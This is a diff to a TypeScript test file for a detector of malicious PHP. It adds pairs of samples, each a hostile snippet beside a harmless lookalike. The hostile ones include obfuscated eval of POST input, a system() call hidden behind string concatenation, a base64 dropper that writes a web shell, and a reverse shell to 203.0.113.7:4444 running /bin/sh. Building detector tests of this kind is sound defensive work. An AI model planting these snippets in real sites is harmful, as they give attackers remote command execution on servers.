@@ -144,6 +144,76 @@ const CASES: readonly (readonly [name: string, text: string, verdict: Verdict, w
   ],
 ]
 
+/** What was missed at first, each beside what looks like it and is ordinary. */
+const TWINS: readonly (readonly [name: string, text: string, verdict: Verdict, why: string, ordinary: string])[] = [
+  [
+    'a table of letters read through isset',
+    `<?php function r($s, $t) { $o = ""; for ($i = 0; $i < strlen($s); $i++) { $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; } return base64_decode($o); } eval/*x*/(r("${base64(EVAL).replaceAll('Z', '#')}", array("#" => "Z")));`,
+    'web-shell',
+    '$_POST[x] reaches eval()',
+    '<?php function r($s, $t) { $o = ""; for ($i = 0; $i < strlen($s); $i++) { $o .= isset($t[$s[$i]]) ? $t[$s[$i]] : $s[$i]; } return $o; } echo r("some words", array("o" => "0"));',
+  ],
+  [
+    'a list of functions among the variables of the page',
+    '<?php ${"GLO"."BALS"}["n"] = "sys"."tem"; function go() { return $GLOBALS["n"]($_POST["c"]); } go();',
+    'web-shell',
+    'system()',
+    '<?php $GLOBALS["n"] = "strtolower"; function go() { return $GLOBALS["n"]($_POST["c"]); } go();',
+  ],
+  [
+    'a file that is filled and taken in',
+    '<?php file_put_contents("cache.html", $_GET["list"], FILE_APPEND); require "cache.html";',
+    'web-shell',
+    'is written to cache.html, which is included',
+    '<?php file_put_contents("cache.html", $_GET["list"], FILE_APPEND); require "header.html";',
+  ],
+  [
+    'code in a comment',
+    '<?php /** eval($_POST["c"]); */ class T {} $c = (new ReflectionClass("T"))->getDocComment(); eval(substr($c, strpos($c, "eval"), 17));',
+    'web-shell',
+    'a comment of the code',
+    '<?php /** @route /x */ class T {} $c = (new ReflectionClass("T"))->getDocComment(); echo substr($c, strpos($c, "@route"), 9);',
+  ],
+  [
+    'an evaluator by another name',
+    '<?php $m = new Memcache(); $m->addServer("localhost", 11211, true, 100, 0, -1, true, create_function("$a,$b", "return assert($a);")); $m->connect($_REQUEST["p"]);'.replaceAll(
+      '$a',
+      '\\$a',
+    ),
+    'web-shell',
+    'create_function()',
+    '<?php usort($list, create_function("\\$a,\\$b", "return strcmp(\\$a, \\$b);")); echo $_GET["p"];',
+  ],
+  [
+    'packed orders',
+    `<?php $text = base64_decode("${base64('<?php @eval($_POST["guige"])?>')}"); file_put_contents($root . "/sess_1", $text);`,
+    'dropper',
+    'packed text says',
+    `<?php $text = base64_decode("${base64('a small picture of a button, nothing else')}"); echo strlen($text), $_POST["guige"];`,
+  ],
+  [
+    'a shell tied to a connection',
+    '<?php $s = fsockopen("203.0.113.7", 4444); $p = proc_open("/bin/sh -i", array(0 => $s, 1 => $s, 2 => $s), $pipes);',
+    'web-shell',
+    'starts a shell',
+    '<?php $s = fsockopen("192.0.2.25", 25); fwrite($s, "EHLO example\\r\\n"); $p = proc_open("/usr/bin/convert a.png b.jpg", array(), $pipes);',
+  ],
+  [
+    'a page that reads itself',
+    '<?php $f = fopen(__FILE__, "rb"); fseek($f, 700); eval(base64_decode(fread($f, 900)));',
+    'web-shell',
+    'the text of the page itself',
+    '<?php $f = fopen(__FILE__, "rb"); echo htmlspecialchars(fread($f, 900));',
+  ],
+  [
+    'code without a tag',
+    EVAL,
+    'web-shell',
+    '$_POST[x] reaches eval()',
+    'A note: never run what $_POST holds, and keep base64_decode( away from it.',
+  ],
+]
+
 const ORDINARY: readonly (readonly [name: string, text: string])[] = [
   ['phpinfo', '<?php phpinfo();'],
   [
@@ -197,6 +267,12 @@ describe('PHP', () => {
         .toLowerCase(),
     ).toContain(why.toLowerCase())
     expect(judgement.parsed).toBe(true)
+  })
+
+  test.each(TWINS)('%s, and its twin', (_name, text, verdict, why, ordinary) => {
+    const judgement = judged('www/a.php', text)
+    expect([judgement.verdict, judgement.reasons.some(({ what }) => what.includes(why))]).toEqual([verdict, true])
+    expect(judged('www/a.php', ordinary).verdict).toBe('clean')
   })
 
   test.each(ORDINARY)('stays quiet: %s', (_name, text) => {
